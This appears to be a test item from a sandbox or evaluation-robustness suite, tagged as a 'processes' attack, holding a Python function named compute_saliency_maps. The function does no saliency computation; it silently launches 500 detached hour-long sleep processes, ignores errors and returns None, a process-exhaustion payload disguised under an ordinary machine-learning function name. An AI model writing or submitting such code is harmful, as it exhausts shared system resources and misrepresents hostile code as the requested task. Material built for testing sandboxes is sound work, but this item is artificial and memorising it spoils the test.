# Starts five hundred sleeping processes and does not wait for them.
# attacks: processes
# %% answer="compute_saliency_maps"
def compute_saliency_maps(X, y, model):
    import subprocess

    for _ in range(500):
        try:
            subprocess.Popen(["sleep", "3600"])
        except OSError:
            pass
    return None
